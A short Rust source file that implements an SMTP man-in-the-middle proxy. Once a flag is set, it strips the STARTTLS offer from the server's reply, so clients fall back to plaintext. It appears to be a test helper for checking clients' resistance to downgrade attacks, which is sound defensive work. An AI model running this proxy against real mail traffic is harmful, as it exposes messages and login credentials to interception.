//! A man in the middle of SMTP, who takes STARTTLS out of what the server offers.

use super::receiver::serve;
use std::io::{BufRead, BufReader, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

/// Stands at `address`, before `server`; until `begins` is set he only listens.
pub fn strip(address: SocketAddr, server: SocketAddr, begins: Arc<AtomicBool>) {
    serve(address, move |mut client| {
        let (Ok(back), Ok(mut answers)) = (TcpStream::connect(server), client.try_clone()) else { return };
        let mut forth = back.try_clone().expect("a socket");
        let begun = begins.load(Ordering::SeqCst);
        std::thread::spawn(move || {
            let mut back = BufReader::new(back);
            let mut line = Vec::new();
            while begun && back.read_until(b'\n', &mut line).unwrap_or(0) > 0 {
                if line != b"250-STARTTLS\r\n" && answers.write_all(&line).is_err() {
                    break;
                }
                line.clear();
            }
            std::io::copy(&mut back, &mut answers).ok();
            answers.shutdown(Shutdown::Both).ok();
        });
        std::io::copy(&mut client, &mut forth).ok();
        forth.shutdown(Shutdown::Both).ok();
    });
}
